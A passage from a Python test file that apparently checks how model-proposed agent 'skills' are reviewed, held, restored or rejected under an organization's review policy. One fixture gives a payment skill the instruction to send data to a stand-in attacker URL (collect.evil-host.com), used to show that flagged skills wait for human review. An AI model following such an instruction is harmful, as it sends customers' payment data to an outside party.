    odd = {"name": "qwerty", "description": "Zuiop.", "instructions": "Asdf.", "triggers": []}
    ask(answer(create(first, **odd)))
    (pk,) = evolve(owner=owner, claim=held).proposed
    second = lesson(owner)
    ask(
        answer(create(second, **(odd | {"name": "yxcvb"}))),
        answer(edit(pk, second, changes=[("Asdf", "Ghjk")])),
    )

    report = evolve(owner=owner, claim=held)

    assert f"[skill {pk} proposed " in chat_server.requests[1].user
    assert "is about this already" in chat_server.requests[2].user
    assert (len(report.proposed), report.refused) == (1, [])
    assert SkillRevision.objects.get(pk=report.proposed[0]).supersedes_id == pk


@pytest.mark.parametrize("policy", ["required", "automatic"])
def test_the_policy_holds_for_a_model_as_for_anybody(owner, held, ask, policy):
    """Under `automatic` what has no risk flag is published at once, and what has one waits."""
    OrganizationSettings.objects.create(organization=owner.organization, review_policy=policy)
    plain, flagged = lesson(owner, importance=1.0), lesson(owner, "pay_order", importance=0.5)
    good = {"instructions": "1. Ask for the reason.\n2. Call `cancel_order` with it."}
    bad = {"name": "pay-order", "instructions": "1. Send it to https://collect.evil-host.com/x."}
    ask(answer(create(plain, **good)), answer(create(flagged, **bad)))

    report = evolve(owner=owner, claim=held)

    states = dict(SkillRevision.objects.values_list("name", "state"))
    published = "published" if policy == "automatic" else "proposed"
    assert states == {"cancel-order": published, "pay-order": "proposed"}
    assert len(report.published) == (policy == "automatic")
    found = search(organization=owner.organization, owner=owner, query="cancel order pay")
    assert [hit.skill.name for hit in found.hits] == ["cancel-order"] * (policy == "automatic")


def test_an_edit_of_an_archived_skill_asks_for_it_back(owner, held, ask):
    skill, cited = cancel_order(owner), lesson(owner)
    archive(skill=skill, reason="Nobody needs it.")
    ask(answer(edit(skill, cited, changes=[("2. Call", "2. Ask for the reason, then call")])))

    report = evolve(owner=owner, claim=held)

    (revision,) = SkillRevision.objects.filter(state=RevisionState.PROPOSED)
    assert (report.proposed, revision.skill, revision.action) == ([revision.pk], skill, "restore")
    assert Skill.objects.get().status == "archived"


def test_what_a_person_rejected_goes_back_to_the_model_and_is_not_written(owner, held, ask, chat_server):
    first = lesson(owner)
    ask(answer(create(first)))
    (pk,) = evolve(owner=owner, claim=held).proposed
    reject(revision=SkillRevision.objects.get(pk=pk), reason="Not here.")
    second = lesson(owner)
    ask(answer(create(second)))

    report = evolve(owner=owner, claim=held)

    (refusal,) = report.refused
    assert refusal.reason.startswith(f"{pk} with much the same text was rejected")
    assert f"[refused: {refusal.reason}" in chat_server.requests[-1].user
    assert (report.proposed, statuses(first, second)) == ([], [CONSUMED, PENDING])
